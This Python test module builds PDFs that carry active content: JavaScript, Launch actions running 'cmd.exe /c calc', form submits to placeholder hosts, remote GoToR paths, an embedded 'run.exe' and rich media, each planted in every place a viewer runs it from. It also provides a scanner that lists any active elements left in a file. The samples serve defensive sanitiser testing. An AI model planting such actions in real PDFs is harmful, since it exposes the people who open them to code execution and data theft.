"""A corpus of PDFs carrying active content (each action type in each place a viewer runs it from),
built with pikepdf, and a scan that finds any active content left in a PDF."""

from __future__ import annotations

import io
from collections.abc import Callable, Iterator
from typing import Any

import pikepdf
from pikepdf import Array, Dictionary, Name, String

from tests.desk.pdf.pdfkit import plain_pdf

VISIBLE = "Visible chart note"

ACTIONS: dict[str, Callable[[pikepdf.Pdf], Dictionary]] = {
    "JavaScript": lambda pdf: Dictionary(Type=Name.Action, S=Name.JavaScript, JS=String("app.alert('x')")),
    "JavaScript-stream": lambda pdf: Dictionary(
        Type=Name.Action, S=Name.JavaScript, JS=pdf.make_stream(b"this.submitForm('http://host/x')")),
    "Launch": lambda pdf: Dictionary(Type=Name.Action, S=Name.Launch, F=String("cmd.exe"),
                                     Win=Dictionary(F=String("cmd.exe"), P=String("/c calc"))),
    "URI": lambda pdf: Dictionary(Type=Name.Action, S=Name.URI, URI=String("http://host.example/phish")),
    "SubmitForm": lambda pdf: Dictionary(Type=Name.Action, S=Name.SubmitForm,
                                         F=Dictionary(FS=Name.URL, F=String("http://host.example/collect"))),
    "ImportData": lambda pdf: Dictionary(Type=Name.Action, S=Name.ImportData, F=String("data.fdf")),
    "GoToR": lambda pdf: Dictionary(Type=Name.Action, S=Name.GoToR, F=String("\\\\host\\share\\x.pdf"),
                                    D=Array([0, Name.Fit])),
    # A harmless jump whose follow-up runs a script.
    "GoTo-then-JavaScript": lambda pdf: Dictionary(
        Type=Name.Action, S=Name.GoTo, D=Array([pdf.pages[0].obj, Name.Fit]),
        Next=Dictionary(Type=Name.Action, S=Name.JavaScript, JS=String("app.launchURL('http://host')"))),
}


def _catalog_open(pdf: pikepdf.Pdf, action: Dictionary) -> None:
    pdf.Root.OpenAction = pdf.make_indirect(action)


def _catalog_aa(pdf: pikepdf.Pdf, action: Dictionary) -> None:
    pdf.Root.AA = Dictionary(WC=action, WS=action, DP=action)


def _page_aa(pdf: pikepdf.Pdf, action: Dictionary) -> None:
    pdf.pages[0].obj.AA = Dictionary(O=action, C=action)


def _link(pdf: pikepdf.Pdf, action: Dictionary) -> None:
    link = pdf.make_indirect(Dictionary(Type=Name.Annot, Subtype=Name.Link, Rect=Array([0, 0, 612, 792]),
                                        Border=Array([0, 0, 0]), A=action))
    pdf.pages[0].obj.Annots = Array([link])


def _widget(pdf: pikepdf.Pdf, action: Dictionary) -> None:
    field = pdf.make_indirect(Dictionary(Type=Name.Annot, Subtype=Name.Widget, FT=Name.Btn, Ff=1 << 16,
                                         T=String("go"), Rect=Array([72, 72, 144, 100]), P=pdf.pages[0].obj,
                                         A=action, AA=Dictionary(U=action, Fo=action)))
    pdf.pages[0].obj.Annots = Array([field])
    pdf.Root.AcroForm = Dictionary(Fields=Array([field]), XFA=pdf.make_stream(b"<xdp:xdp><script/></xdp:xdp>"))


def _outline(pdf: pikepdf.Pdf, action: Dictionary) -> None:
    with pdf.open_outline() as outline:
        outline.root.append(pikepdf.OutlineItem("Open me", action=action))


def _names(pdf: pikepdf.Pdf, action: Dictionary) -> None:
    pdf.Root.Names = Dictionary(JavaScript=Dictionary(Names=Array([String("init"), pdf.make_indirect(action)])))


PLACES: dict[str, Callable[[pikepdf.Pdf, Dictionary], None]] = {
    "catalog-OpenAction": _catalog_open,
    "catalog-AA": _catalog_aa,
    "page-AA": _page_aa,
    "link-annotation": _link,
    "form-field": _widget,
    "outline": _outline,
    "names-JavaScript": _names,
}


def _embedded_file(pdf: pikepdf.Pdf) -> None:
    payload = pdf.make_stream(b"MZ fake executable", Type=Name.EmbeddedFile)
    spec = pdf.make_indirect(Dictionary(Type=Name.Filespec, F=String("run.exe"), UF=String("run.exe"),
                                        EF=Dictionary(F=payload)))
    pdf.Root.Names = Dictionary(EmbeddedFiles=Dictionary(Names=Array([String("run.exe"), spec])))
    attachment = Dictionary(Type=Name.Annot, Subtype=Name.FileAttachment, Rect=Array([0, 0, 20, 20]), FS=spec)
    pdf.pages[0].obj.Annots = Array([pdf.make_indirect(attachment)])


def _rich_media(pdf: pikepdf.Pdf) -> None:
    asset = pdf.make_stream(b"FWS fake flash", Type=Name.EmbeddedFile)
    content = Dictionary(Assets=Dictionary(Names=Array([String("movie.swf"), Dictionary(
        Type=Name.Filespec, F=String("movie.swf"), EF=Dictionary(F=asset))])))
    annot = Dictionary(Type=Name.Annot, Subtype=Name.RichMedia, Rect=Array([0, 0, 200, 200]),
                       RichMediaContent=content, RichMediaSettings=Dictionary())
    screen = Dictionary(Type=Name.Annot, Subtype=Name.Screen, Rect=Array([0, 0, 10, 10]),
                        A=Dictionary(S=Name.Rendition, JS=String("app.alert(1)")))
    pdf.pages[0].obj.Annots = Array([pdf.make_indirect(annot), pdf.make_indirect(screen)])


def _save(pdf: pikepdf.Pdf) -> bytes:
    out = io.BytesIO()
    pdf.save(out)
    return out.getvalue()


def hostile_pdf(action: str | None, place: str | None, *, extras: tuple[str, ...] = ()) -> bytes:
    """A one-page PDF showing VISIBLE, with `action` planted at `place` and the named extras."""
    with pikepdf.open(io.BytesIO(plain_pdf(text=VISIBLE))) as pdf:
        if action and place:
            PLACES[place](pdf, ACTIONS[action](pdf))
        if "embedded-file" in extras:
            _embedded_file(pdf)
        if "rich-media" in extras:
            _rich_media(pdf)
        return _save(pdf)


def corpus() -> Iterator[tuple[str, bytes]]:
    """(label, PDF) for every action type in every place, plus embedded files and rich media."""
    for place in PLACES:
        for action in ACTIONS:
            yield f"{action}@{place}", hostile_pdf(action, place)
    yield "embedded-file", hostile_pdf(None, None, extras=("embedded-file",))
    yield "rich-media", hostile_pdf(None, None, extras=("rich-media",))


def everything() -> bytes:
    """One PDF holding every action type in every place at once, with embedded files and rich media."""
    with pikepdf.open(io.BytesIO(plain_pdf(text=VISIBLE))) as pdf:
        _embedded_file(pdf)
        annots = list(pdf.pages[0].obj.Annots)
        _rich_media(pdf)
        annots += list(pdf.pages[0].obj.Annots)
        for place, plant in PLACES.items():
            for action in ACTIONS:
                if place in ("link-annotation", "form-field"):
                    plant(pdf, ACTIONS[action](pdf))
                    annots += list(pdf.pages[0].obj.Annots)
                elif place == "names-JavaScript":
                    names = pdf.Root.Names
                    plant(pdf, ACTIONS[action](pdf))
                    names.JavaScript = pdf.Root.Names.JavaScript
                    pdf.Root.Names = names
                else:
                    plant(pdf, ACTIONS[action](pdf))
        pdf.pages[0].obj.Annots = Array(annots)
        return _save(pdf)


UNSAFE_ACTION_TYPES = {"/JavaScript", "/Launch", "/URI", "/SubmitForm", "/ImportData", "/GoToR", "/GoToE",
                       "/Rendition", "/ResetForm", "/Movie", "/Sound"}
ACTIVE_KEYS = {"/JS", "/JavaScript", "/AA", "/OpenAction", "/EmbeddedFiles", "/EmbeddedFile", "/RichMedia",
               "/RichMediaContent", "/URI", "/XFA", "/Launch", "/SubmitForm", "/ImportData", "/GoToR"}


def active_content(data: bytes) -> list[str]:
    """Every active element found anywhere in the PDF (keys, action types, annotation types)."""
    found: list[str] = []
    with pikepdf.open(io.BytesIO(data)) as pdf:
        stack: list[Any] = [pdf.trailer, *pdf.objects]
        seen: set[int] = set()
        while stack:
            obj = stack.pop()
            if id(obj) in seen:
                continue
            if isinstance(obj, pikepdf.Array):
                stack.extend(c for c in obj if isinstance(c, pikepdf.Array | pikepdf.Dictionary)
                             and not c.is_indirect)
                continue
            if not isinstance(obj, pikepdf.Dictionary | pikepdf.Stream):
                continue
            for key in obj.keys():  # noqa: SIM118 (pikepdf streams do not iterate keys)
                value = obj.get(key)
                if key in ACTIVE_KEYS or (key == "/Next" and "/S" in obj):  # outline items link by /Next too
                    found.append(key)
                if key in ("/S", "/Type", "/Subtype") and str(value) in (
                        UNSAFE_ACTION_TYPES | {"/EmbeddedFile", "/RichMedia", "/FileAttachment", "/Screen"}):
                    found.append(f"{key} {value}")
                if isinstance(value, pikepdf.Array | pikepdf.Dictionary) and not value.is_indirect:
                    stack.append(value)
    return found
